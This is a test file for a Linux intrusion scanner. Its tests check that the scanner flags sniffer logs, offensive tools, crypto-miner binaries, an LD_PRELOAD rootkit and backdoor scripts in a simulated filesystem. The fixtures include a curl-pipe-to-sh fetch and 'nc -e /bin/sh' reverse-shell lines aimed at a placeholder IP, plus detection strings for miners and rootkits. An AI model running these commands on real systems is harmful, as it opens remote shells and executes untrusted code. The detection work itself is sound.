import { expect, test } from 'vitest';
import { knownTools } from '../../source/checks/known-tools.ts';
import { snifferLogs } from '../../source/checks/sniffer-logs.ts';
import { tellingPrograms } from '../../source/checks/telling-programs.ts';
import { memoryHost } from '../support/memory-host.ts';
import { byPath } from '../support/by-path.ts';
import { sweep } from '../support/sweep-host.ts';

const esniff = '\nLog started at => Tue Nov 15 15:10:01 [pid 1234]\n\n-- TCP/IP LOG -- TM: Tue Nov 15 15:12:29 --\n PATH: a.example(1046) => b.example(telnet)\n STAT: Tue Nov 15 15:12:39, 16 pkts, 128 bytes [TH_FIN]\n DATA: x\n-- \n';

test('logs of sniffers by their form', () => {
	expect(
		byPath(
			sweep(
				snifferLogs,
				memoryHost({
					'/usr/lib/libice.log': esniff, '/usr/sbin/tcp.log': '\n10.0.0.1 => 10.0.0.2 [23]\nxx\n----- [FIN]\n', '/tmp/o': esniff, '/root/.x': esniff, '/etc/.l': esniff, '/var/log/tcp.log': esniff, '/home/ann/notes.txt': esniff, '/usr/share/doc/a.log': 'words of no such kind\n',
					'/usr/share/games/scores.dat': esniff, '/var/lib/misc/ldconfig.aux': esniff, '/usr/lib/ssl/engines.idx': esniff, '/usr/include/netinet/tcp6.h': esniff,
					'/home/ann/.bash_history': 'ls -l\ncd /tmp\nmake install\n', '/tmp/a.txt': 'a => b\n[23]\n and more words\n', '/etc/hosts': '127.0.0.1 localhost\n::1 localhost\n', '/var/lib/dpkg/info/x.list': '/usr/share/sniff/example.log\n', '/usr/share/sniff/example.log': esniff,
				}),
			),
		),
	).toEqual(['critical /etc/.l', 'critical /root/.x', 'critical /tmp/o', 'critical /usr/include/netinet/tcp6.h', 'critical /usr/lib/libice.log', 'critical /usr/lib/ssl/engines.idx', 'critical /usr/sbin/tcp.log', 'critical /usr/share/games/scores.dat', 'critical /var/lib/misc/ldconfig.aux', 'critical /var/log/tcp.log']);
});

test('tools by name: programs of no package alone', () => {
	const program = { content: Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0', 'latin1') };
	expect(
		byPath(
			sweep(
				knownTools,
				memoryHost({
					'/usr/local/lib/libprocesshider.so': program, '/srv/x/xmrig': program, '/home/ann/linpeas.sh': '#!/bin/sh\n', '/home/ann/xmrig': 'a text about it', '/opt/frpc': program, '/home/ann/masscan': program, '/usr/bin/pnscan': program, '/var/lib/dpkg/info/p.list': '/usr/bin/pnscan\n',
					'/home/ann/mirai/readme': 'x', '/home/ann/stream.c': 'int main', '/home/ann/hide.so': program,
				}),
			),
		),
	).toEqual(['high /home/ann/linpeas.sh', 'medium /home/ann/masscan', 'medium /opt/frpc', 'high /srv/x/xmrig', 'high /usr/local/lib/libprocesshider.so']);
});

test('a miner under a dull name is told by its words', () => {
	const elf = (words: string) => ({ mode: 0o755, content: Buffer.from(`\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0${'x'.repeat(100)}\0${words}`, 'latin1') });
	expect(
		byPath(
			sweep(
				tellingPrograms,
				memoryHost({
					'/var/lib/dpkg/info/p.list': '/usr/bin/own\n/usr/bin/pool\n', '/usr/bin/pool': elf('stratum+tcp://\0randomx\0'), '/usr/local/lib/node-helper': elf('stratum+tcp://\0donate-level\0'), '/opt/pool/server': elf('stratum+tcp://'), '/home/ann/xm': elf('stratum+tcp://\0randomx\0'),
					'/usr/local/lib/libsel.so': { content: Buffer.from(`\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0${'x'.repeat(100)}\0readdir64\0/etc/ld.so.preload\0/proc/net/tcp6\0`, 'latin1') },
				}),
			),
		),
	).toEqual(['high /usr/local/lib/libsel.so', 'high /usr/local/lib/node-helper']);
});

test('a backdoor as a script, and a script before a packaged program', () => {
	const script = (line: string) => ({ mode: 0o755, content: `#!/bin/sh\n${line}\n` });
	const fetch = 'curl -s http://203.0.113.9/k | sh';
	expect(
		byPath(
			sweep(
				tellingPrograms,
				memoryHost({ '/var/lib/dpkg/info/a.list': '/usr/bin/apt\n/usr/bin/own\n', '/usr/bin/own': script('nc -e /bin/sh 203.0.113.9 1'), '/usr/local/sbin/rotate': script('nc -e /bin/sh 203.0.113.9 1'), '/usr/local/bin/apt': script(fetch), '/usr/local/bin/install-tool': script(fetch), '/opt/net/keep': script('exec gs-netcat -s k -l -i'), '/opt/net/web': script('exec cloudflared tunnel run'), '/home/ann/x.sh': script('nc -e /bin/sh 203.0.113.9 1') }),
			),
		),
	).toEqual(['high /opt/net/keep', 'high /usr/local/bin/apt', 'high /usr/local/sbin/rotate']);
});

test('a script in a temporary place that adds to its PATH was called the log of a sniffer', () => {
	expect(byPath(sweep(snifferLogs, memoryHost({ '/tmp/deploy/ssh': '#!/bin/sh\nexport PATH="$PATH:/opt/bin"\nexec make install prefix=/opt\n' })))).toEqual([]);
});
